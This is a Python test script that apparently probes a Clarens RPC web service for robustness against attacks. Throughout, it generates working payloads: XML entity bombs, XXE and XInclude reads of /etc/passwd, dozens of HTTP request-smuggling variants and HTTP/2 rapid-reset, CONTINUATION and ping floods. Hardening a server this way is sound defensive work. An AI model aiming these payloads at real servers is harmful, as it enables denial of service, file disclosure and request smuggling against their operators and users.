"""Speaks HTTP as nobody should: hostile_http.py MODE HOST PORT CA prints one line of fields for each, parted by tabs.

    bodies      hostile bodies of every dialect: name, status, code, seconds, text
    smuggle     requests that two readers end at different places, with a second one hidden in each:
                name, statuses
    floods      floods of HTTP/2 frames and bodies that never come: name, sent, ended, seconds
"""

import http.client
import re
import socket
import ssl
import struct
import sys
import time

MODE, HOST, PORT, CA = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
PATIENCE_SECONDS = 60


def tell(*fields):
    print("\t".join(re.sub(r"[\x00-\x1f]", " ", str(field)) for field in fields), flush=True)


def connect(*protocols):
    context = ssl.create_default_context(cafile=CA)
    context.set_alpn_protocols(list(protocols))
    raw = socket.create_connection((HOST, PORT), PATIENCE_SECONDS)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return context.wrap_socket(raw, server_hostname="localhost")


# Bodies.


def xmlrpc(inner):
    return f"<methodCall><methodName>echo.echo</methodName><params>{inner}</params></methodCall>"


def value(inner):
    return xmlrpc(f"<param><value>{inner}</value></param>")


def soap(inner, namespace="http://schemas.xmlsoap.org/soap/envelope/", header=""):
    return f'<s:Envelope xmlns:s="{namespace}">{header}<s:Body>{inner}</s:Body></s:Envelope>'


def jsonrpc(inner):
    return '{"jsonrpc":"2.0","method":"echo.echo","id":1,"params":[' + inner + "]}"


def entities(body):
    definitions = '<!ENTITY a0 "aaaaaaaaaa">'
    for n in range(1, 20):
        definitions += f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">'
    return f"<!DOCTYPE x [{definitions}]>" + body.replace("HERE", "&a19;")


def hostile_bodies():
    """(name, content type, body) of each: what T13 to T18 of the known attacks are made of."""
    many = 1_000_000
    for name, kind, wrap in [
        ("xmlrpc", "text/xml", value),
        ("soap11", "text/xml", lambda inner: soap(f"<echo.echo><a>{inner}</a></echo.echo>")),
        ("soap12", "application/soap+xml",
         lambda inner: soap(f"<echo.echo><a>{inner}</a></echo.echo>", "http://www.w3.org/2003/05/soap-envelope")),
    ]:
        plain = wrap("HERE")
        yield f"{name} entity bomb", kind, entities(plain)
        quadratic = '<!DOCTYPE x [<!ENTITY a "' + "a" * 100_000 + '">]>'
        yield f"{name} quadratic entities", kind, quadratic + plain.replace("HERE", "&a;" * 10_000)
        for what in ["file:///etc/passwd", "http://127.0.0.1:1/x", "jar:file:///x!/y"]:
            outside = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{what}">]>'
            yield f"{name} external entity {what}", kind, outside + plain.replace("HERE", "&a;")
        yield f"{name} parameter entity", kind, '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>' + plain
        yield f"{name} external DTD", kind, '<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">' + plain
        yield f"{name} 100,000 levels", kind, wrap("<a>" * 100_000)
        yield f"{name} 100,000 levels, closed", kind, wrap("<a>" * 100_000 + "</a>" * 100_000)
        yield f"{name} a million attributes", kind, wrap("<i " + " ".join(f'a{n}="1"' for n in range(many)) + "/>")
        yield f"{name} a million elements", kind, wrap("<i/>" * many)
        yield f"{name} a name of 8 MB", kind, wrap("<" + "n" * 8_000_000 + "/>")
        yield f"{name} an attribute of 8 MB", kind, wrap('<i a="' + "v" * 8_000_000 + '"/>')
        yield f"{name} bytes that are no UTF-8", kind, wrap("HERE").encode().replace(b"HERE", b"\xff\xfe\x80")
        yield f"{name} overlong UTF-8", kind, wrap("HERE").encode().replace(b"HERE", b"\xc0\x80\xe0\x80\xaf")
        yield f"{name} UTF-7", kind, b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-'
        yield f"{name} a NUL", kind, wrap("a\0b")
        yield f"{name} a NUL by number", kind, wrap("&#0;")
        yield f"{name} cut short", kind, wrap("HERE")[:-9]
        yield f"{name} and more behind it", kind, wrap("") + wrap("")
        yield f"{name} an unknown entity", kind, wrap("&nbsp;")
        yield f"{name} a 10 MB comment that does not end", kind, "<!--" + "-x" * 5_000_000
        yield f"{name} a 10 MB processing instruction", kind, "<?" + "p" * 10_000_000
        yield f"{name} contradicting encodings", f"{kind}; charset=utf-8", b"\xff\xfe" + wrap("x").encode("utf-16-le")
    for name, inner in [
        ("huge i8", "<i8>" + "9" * 100_000 + "</i8>"), ("i8 of 2^63", "<i8>9223372036854775808</i8>"),
        ("NaN", "<double>NaN</double>"), ("infinity", "<double>Infinity</double>"), ("1e999", "<double>1e999</double>"),
        ("no base64", "<base64>!!!!</base64>"), ("no date", "<dateTime.iso8601>20061332T99:99:99</dateTime.iso8601>"),
        ("no boolean", "<boolean>2</boolean>"), ("two types", "<int>1</int><int>2</int>"),
        ("members twice", "<struct>" + "<member><name>a</name><value>1</value></member>" * 2 + "</struct>"),
        ("a native object", "<ex:serializable>rO0ABXNy</ex:serializable>"),
        ("a DOM", "<ex:dom><x/></ex:dom>"), ("XInclude", '<i xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></i>'),
    ]:
        yield f"xmlrpc {name}", "text/xml", value(inner)
    yield "xmlrpc an answer", "text/xml", "<methodResponse><params/></methodResponse>"
    yield "xmlrpc a hostile name", "text/xml", "<methodCall><methodName>../../etc/passwd</methodName></methodCall>"
    yield "xmlrpc a name of 100,000 bytes", "text/xml", f"<methodCall><methodName>{'a' * 100_000}</methodName></methodCall>"
    must = '<s:Header><x:h xmlns:x="urn:x" s:mustUnderstand="1"/></s:Header>'
    yield "soap11 mustUnderstand", "text/xml", soap("<echo.echo/>", header=must)
    yield "soap11 XOP", "text/xml", soap(
        '<echo.echo><a><x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="http://127.0.0.1:1/x"/></a></echo.echo>')
    yield "soap11 a reference out of it", "text/xml", soap('<echo.echo><a href="http://127.0.0.1:1/x"/></echo.echo>')
    circle = '<echo.echo><a id="1"><b href="#1"/></a></echo.echo>'
    yield "soap11 a circle", "text/xml", soap(circle)
    wide = "".join(f'<x id="r{n}">' + f'<i href="#r{n + 1}"/>' * 10 + "</x>" for n in range(10))
    yield "soap11 references that multiply", "text/xml", soap('<echo.echo><a href="#r0"/></echo.echo>' + wide + '<x id="r10">x</x>')
    yield "soap11 two calls", "text/xml", soap("<echo.echo/><echo.echo/>")
    yield "soap of no known version", "text/xml", soap("<echo.echo/>", "urn:another")
    for name, inner in [
        ("100,000 levels", "[" * 100_000), ("100,000 levels, closed", "[" * 100_000 + "]" * 100_000),
        ("a million values", ",".join("1" * many)), ("a member twice", '{"a":1,"a":2}'), ("1e999", "1e999"), ("NaN", "NaN"),
        ("2^63", "9223372036854775808"), ("a number of 100,000 digits", "1" * 100_000), ("half a surrogate", '"\\ud800"'),
        ("a NUL", '"\\u0000"'), ("a name of 1 MB", '{"' + "n" * 1_000_000 + '":1}'), ("a tag that is none", '{"$nesssi":"class","name":"x"}'),
        ("cut short", '"abc'),
    ]:
        yield f"jsonrpc {name}", "application/json", jsonrpc(inner)
    yield "jsonrpc a method twice", "application/json", '{"jsonrpc":"2.0","method":"a.b","method":"c.d","id":1}'
    yield "jsonrpc an empty batch", "application/json", "[]"
    yield "jsonrpc a batch of 100,000", "application/json", "[" + ",".join(['{"jsonrpc":"2.0","method":"echo.echo","id":1}'] * 100_000) + "]"
    yield "jsonrpc no UTF-8", "application/json", b'{"jsonrpc":"2.0","method":"echo.\xff","id":1}'
    inner = "<value><struct><member><name>methodName</name><value>echo.echo</value></member>" \
            "<member><name>params</name><value><array><data/></array></value></member></struct></value>"
    calls = f"<value><array><data>{inner * 10_000}</data></array></value>"
    yield "multicall of 10,000", "text/xml", \
        f"<methodCall><methodName>system.multicall</methodName><params><param>{calls}</param></params></methodCall>"


# SOAP's own reasons have no code of ours.
REASON = re.compile("MustUnderstand|VersionMismatch")
CODE = re.compile(r"<(?:int|i4)>(-?\d+)</|<(?:\w+:)?code>(-?\d+)</|\"code\":\s*(-?\d+)")


def bodies():
    for name, kind, body in hostile_bodies():
        body = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
        began = time.monotonic()
        connection = http.client.HTTPSConnection(
            HOST, PORT, context=ssl.create_default_context(cafile=CA), timeout=PATIENCE_SECONDS)
        connection.request("POST", "/clarens/", body, {"Content-Type": kind, "Host": "localhost"})
        answer = connection.getresponse()
        text = answer.read().decode("utf-8", "replace")
        found = CODE.search(text)
        reason = REASON.search(text)
        code = next(group for group in found.groups() if group) if found else reason and reason.group()
        connection.close()
        tell(name, answer.status, code, time.monotonic() - began, text[:600])


# Requests with another hidden in them.

CALL = "<methodCall><methodName>asks.{}</methodName><params/></methodCall>"


def post(method, *headers, body=None):
    body = CALL.format(method) if body is None else body
    head = ["POST /clarens/ HTTP/1.1", "Host: localhost", "Content-Type: text/xml", *headers]
    return "\r\n".join(head) + "\r\n\r\n" + body


def hidden():
    return post("hidden", f"Content-Length: {len(CALL.format('hidden'))}")


def chunked(body):
    return f"{len(body):x}\r\n{body}\r\n0\r\n\r\n"


def smuggled():
    """(name, bytes) of each: what one reader takes for a body holds a whole request for another."""
    call, second = CALL.format("seen"), hidden()
    both = chunked(call) + second
    length = f"Content-Length: {len(both)}"
    yield "CL.TE", post("seen", length, "Transfer-Encoding: chunked", body=both)
    yield "TE.CL", post("seen", "Transfer-Encoding: chunked", "Content-Length: 4", body=chunked(call) + second)
    for name, header in [
        ("TE, a blank before the colon", "Transfer-Encoding : chunked"), ("TE, xchunked", "Transfer-Encoding: xchunked"),
        ("TE, chunked and identity", "Transfer-Encoding: chunked, identity"), ("TE, identity", "Transfer-Encoding: identity"),
        ("TE, a vertical tab", "Transfer-Encoding:\x0bchunked"), ("TE, a quote", 'Transfer-Encoding: "chunked"'),
        ("TE, chunked twice", "Transfer-Encoding: chunked, chunked"), ("TE folded", "Transfer-Encoding:\r\n chunked"),
        ("TE behind a bare line feed", "X: x\nTransfer-Encoding: chunked"), ("TE, empty", "Transfer-Encoding: "),
        ("TE, two headers", "Transfer-Encoding: chunked\r\nTransfer-encoding: x"), ("TE behind a bare return", "X: x\rTransfer-Encoding: chunked"),
    ]:
        yield f"CL and {name}", post("seen", length, header, body=both)
    short = f"Content-Length: {len(call)}"
    whole = f"Content-Length: {len(call + second)}"
    yield "two lengths", post("seen", short, whole, body=call + second)
    yield "two lengths, the greater first", post("seen", whole, short, body=call + second)
    for name, written in [
        ("plus", f"+{len(call + second)}"), ("a list", f"{len(call)}, {len(call + second)}"), ("hexadecimal", "0x10"),
        ("negative", "-1"), ("too large", "9" * 30), ("a blank inside", f"{len(call)} {len(second)}"), ("underscores", "1_0"),
        ("folded", f"\r\n {len(call + second)}"),
    ]:
        yield f"a length that is {name}", post("seen", f"Content-Length: {written}", body=call + second)
    chunks = "Transfer-Encoding: chunked"
    for name, body in [
        ("a size too large", f"FFFFFFFFFFFFFFFFF\r\n{call}\r\n0\r\n\r\n"), ("a negative size", f"-1\r\n{call}\r\n0\r\n\r\n"),
        ("0x before the size", f"0x{len(call):x}\r\n{call}\r\n0\r\n\r\n"), ("underscores", f"{len(call):x}_0\r\n{call}\r\n0\r\n\r\n"),
        ("a bare line feed", f"{len(call):x};\n{call}\r\n0\r\n\r\n"), ("an extension of 1 MB", f"{len(call):x};{'x' * 1_000_000}\r\n{call}\r\n0\r\n\r\n"),
        ("no end of a chunk", f"{len(call):x}\r\n{call}0\r\n\r\n"), ("trailers", f"{len(call):x}\r\n{call}\r\n0\r\nContent-Length: 5\r\nHost: x\r\n\r\n"),
        ("a line feed in an extension", f"{len(call):x};a=\"\n\"\r\n{call}\r\n0\r\n\r\n"),
    ]:
        yield f"chunks with {name}", post("seen", chunks, body=body + second)
    yield "chunks in HTTP/1.0", post("seen", chunks, body=chunked(call) + second).replace("HTTP/1.1", "HTTP/1.0", 1)
    yield "two hosts", post("seen", short, "Host: elsewhere", body=call + second)
    yield "a NUL in a header", post("seen", short, "X: a\0b", body=call + second)
    yield "a blank before the first header", post("seen", short, body=call + second).replace("Host:", " Host:", 1)
    yield "no blank in the request line", post("seen", short, body=call + second).replace("POST /clarens/ HTTP/1.1", "POST\t/clarens/\tHTTP/1.1", 1)
    yield "an upgrade to h2c", post("seen", whole, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c",
                                    "HTTP2-Settings: AAMAAABkAAQAAP__", body=call + second)
    yield "an upgrade to a web socket", post("seen", whole, "Connection: Upgrade", "Upgrade: websocket", body=call + second)
    yield "a length by name of connection", post("seen", whole, "Connection: close, Content-Length", body=call + second)
    yield "expecting 100", post("seen", whole, "Expect: 100-continue", body=call + second)
    yield "expecting more", post("seen", whole, "Expect: 100-continue, x", body=call + second)


def smuggle():
    for name, request in smuggled():
        stream = connect("http/1.1")
        stream.settimeout(1)
        gathered = b""
        try:
            stream.sendall(request.encode("latin-1"))
            while True:
                piece = stream.recv(65536)
                if not piece:
                    break
                gathered += piece
        except OSError:
            pass
        stream.close()
        tell(name, " ".join(re.findall(r"HTTP/1\.[01] (\d+)", gathered.decode("latin-1"))))


# Floods.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, text):
    """A header field without indexing and without Huffman's code (RFC 7541, 6.2.2)."""
    def length(number):
        if number < 127:
            return bytes([number])
        out, number = b"\x7f", number - 127
        while number >= 128:
            out, number = out + bytes([number % 128 + 128]), number // 128
        return out + bytes([number])
    return b"\x00" + length(len(name)) + name + length(len(text)) + text


HEAD = field(b":method", b"POST") + field(b":scheme", b"https") + field(b":authority", b"localhost") \
    + field(b":path", b"/clarens/") + field(b"content-type", b"text/xml")


def flood(name, frames):
    """Sends until the frames are all sent or the other side has had enough."""
    stream = connect("h2")
    assert stream.selected_alpn_protocol() == "h2"
    began, sent, ended = time.monotonic(), 0, "all was taken"
    stream.settimeout(20)
    try:
        stream.sendall(PREFACE + frame(4, 0, 0))
        gathered = bytearray()
        for part, count in frames():
            gathered += part
            sent += count
            if len(gathered) > 60_000:
                stream.sendall(gathered)
                gathered.clear()
        stream.sendall(gathered)
    except ssl.SSLError as error:
        ended = f"closed: {error.reason}"
    except OSError as error:
        ended = f"closed: {type(error).__name__}"
    seconds = time.monotonic() - began
    stream.close()
    tell(name, sent, ended, seconds)


def floods():
    def resets():
        for n in range(50_000):
            stream = 2 * n + 1
            yield frame(1, 4, stream, HEAD) + frame(3, 0, stream, struct.pack(">I", 8)), 1

    def continuations():
        yield frame(1, 0, 1, HEAD), 0
        for n in range(5_000):
            yield frame(9, 0, 1, field(b"x-%d" % n, b"v" * 16_000)), 1

    def settings():
        for _ in range(200_000):
            yield frame(4, 0, 0, struct.pack(">HI", 4, 65_535)), 1

    def pings():
        for n in range(200_000):
            yield frame(6, 0, 0, struct.pack(">Q", n)), 1

    def empty_data():
        yield frame(1, 4, 1, HEAD), 0
        for _ in range(200_000):
            yield frame(0, 0, 1), 1

    def streams():
        for n in range(20_000):
            yield frame(1, 4, 2 * n + 1, HEAD), 1

    for name, frames in [("resets", resets), ("continuations", continuations), ("settings", settings),
                         ("pings", pings), ("empty data", empty_data), ("streams without bodies", streams)]:
        flood(name, frames)
    # A body that is announced and never comes.
    for name, extra in [("a body that never comes", ""), ("a body after 100 that never comes", "Expect: 100-continue\r\n")]:
        stream = connect("http/1.1")
        began = time.monotonic()
        stream.sendall(f"POST /clarens/ HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/xml\r\nContent-Length: 100\r\n{extra}\r\n".encode())
        answer = b""
        try:
            while piece := stream.recv(65536):
                answer += piece
        except OSError:
            pass
        statuses = re.findall(r"HTTP/1\.[01] (\d+)", answer.decode("latin-1"))
        tell(name, 1, " ".join(statuses), time.monotonic() - began)
        stream.close()


{"bodies": bodies, "smuggle": smuggle, "floods": floods}[MODE]()
